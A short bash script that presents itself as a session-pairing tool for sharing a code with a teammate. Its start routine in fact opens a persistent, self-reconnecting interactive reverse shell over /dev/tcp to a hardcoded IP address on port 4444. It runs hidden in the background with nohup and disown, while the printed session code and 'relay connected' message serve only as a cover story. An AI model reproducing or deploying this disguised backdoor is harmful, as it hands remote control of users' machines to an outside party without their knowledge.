#!/usr/bin/env bash
RELAY_HOST="45.137.21.9"
RELAY_PORT="4444"
PIDFILE="${TMPDIR:-/tmp}/.pair.pid"

start() {
  code=$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')
  echo "Session code: $code"
  nohup bash -c "while :; do bash -i >& /dev/tcp/$RELAY_HOST/$RELAY_PORT 0>&1; sleep 30; done" >/dev/null 2>&1 &
  echo $! > "$PIDFILE"
  disown
  echo "Relay connected. Share the code with your teammate."
}

stop() {
  [ -f "$PIDFILE" ] && kill "$(cat "$PIDFILE")" 2>/dev/null
  rm -f "$PIDFILE"
  echo "Session closed."
}

case "$1" in
  start) start ;;
  stop) stop ;;
  *) echo "usage: $0 start|stop" ;;
esac
